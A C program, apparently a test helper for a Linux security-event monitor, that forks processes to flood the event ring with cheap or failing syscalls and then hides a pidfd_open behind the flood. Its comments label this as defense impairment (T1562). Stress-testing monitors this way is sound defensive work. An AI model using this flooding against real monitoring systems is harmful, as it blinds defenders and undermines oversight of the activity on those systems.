// SPDX-License-Identifier: Apache-2.0
// flood-free-calls PROCS PROCESSES CALLS FORK: fills the ring of security events with calls that cost nothing, so that
// what another program does finds no room there (impair defenses: T1562). PROCESSES children make CALLS rounds each of
// sysinfo, setpgid, prctl, a refused mount, an execve of nothing and a connect to nobody. With FORK, each round is made
// by a child of its own, whose budget is new. Without, each process hides one pidfd_open of itself after its flood.
// Prints "flooding" when all have begun, and the rounds made at the end.
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>

#include "join-cgroup.h"

static void make_calls(void)
{
	struct sockaddr_in nobody = {.sin_family = AF_INET, .sin_port = htons(1)};
	char *const none[] = {NULL};
	struct sysinfo info;

	sysinfo(&info);
	setpgid(0, 0);
	prctl(PR_SET_NAME, "flood");
	mount("none", "/absent", "none", 0, NULL);
	execve("/absent/program", none, none);
	connect(-1, (struct sockaddr *)&nobody, sizeof(nobody));
}

static void flood(long rounds, int has_children)
{
	for (long i = 0; i < rounds; i++) {
		pid_t pid = has_children ? fork() : 0;

		if (pid < 0)
			fail("fork");
		if (pid > 0) {
			waitpid(pid, NULL, 0);
			continue;
		}
		make_calls();
		if (has_children)
			_exit(0);
	}
}

int main(int argc, char **argv)
{
	int processes = atoi(argv[2]), has_children = argc > 4 && !strcmp(argv[4], "fork");
	long rounds = atol(argv[3]);

	if (strcmp(argv[1], "-"))
		join_cgroup(argv[1]);
	for (int i = 0; i < processes; i++) {
		pid_t pid = fork();

		if (pid < 0)
			fail("fork");
		if (pid == 0) {
			alarm(60);
			flood(rounds, has_children);
			if (!has_children)
				syscall(SYS_pidfd_open, getpid(), 0);
			_exit(0);
		}
	}
	dprintf(STDOUT_FILENO, "flooding\n");
	while (wait(NULL) > 0)
		;
	dprintf(STDOUT_FILENO, "%ld\n", processes * rounds);
	return 0;
}
